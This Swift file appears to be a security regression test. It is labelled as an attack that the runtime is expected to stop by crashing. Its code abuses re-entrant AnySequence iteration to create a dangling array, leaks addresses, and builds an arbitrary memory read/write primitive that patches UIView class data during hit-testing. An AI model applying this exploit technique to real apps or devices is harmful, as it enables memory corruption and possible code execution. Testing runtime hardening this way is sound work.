// Attack: an iterator of any type is asked for the next element while it looks for one.
// Exercise: 3
// Expect: crashed
// Held by: the kit's iterators of any type are checked
import UIKit

final class Mark {
    var first = Int.max, second = 1 << 60
    var number: Int
    init(_ number: Int) { self.number = number }
}

struct Lists: IteratorProtocol {
    var list: [Int] = []
    init() { list.append(1) }
    mutating func next() -> Int? {
        if Memory.isInside {
            if list.count == Int.max { Memory.words = list }
            return nil
        }
        Memory.isInside = true
        change(&list)
        return nil
    }
}

func change(_ list: inout [Int]) {
    for number in 0..<64 { Memory.marks.append(Mark(number)) }
    _ = Memory.lists.next()
    list = []
}

enum Memory {
    nonisolated(unsafe) static var lists = AnySequence<Int>({ Lists() }).makeIterator()
    nonisolated(unsafe) static var isInside = false
    nonisolated(unsafe) static var marks: [Mark] = []
    nonisolated(unsafe) static var words: [Int] = []
    nonisolated(unsafe) static var base: UInt = 0

    static func prepare() {
        marks.reserveCapacity(128)
        _ = lists.next()
        base = UInt(bitPattern: ObjectIdentifier(marks[words[0]])) &+ 32
        marks.removeAll()
    }

    static subscript(address: UInt) -> Int {
        get { words[Int((address &- base) >> 3)] }
        set { words[Int((address &- base) >> 3)] = newValue }
    }
    static let kinds: UInt = {
        prepare()
        return UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23928
    }()
    nonisolated(unsafe) static var old = 0
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        let place = Memory.kinds
        Memory.old = Memory[place]
        Memory[place] = 0
        defer { Memory[place] = Memory.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Memory[Memory.kinds] = Memory.old
        return super.point(inside: point, with: event)
    }
}
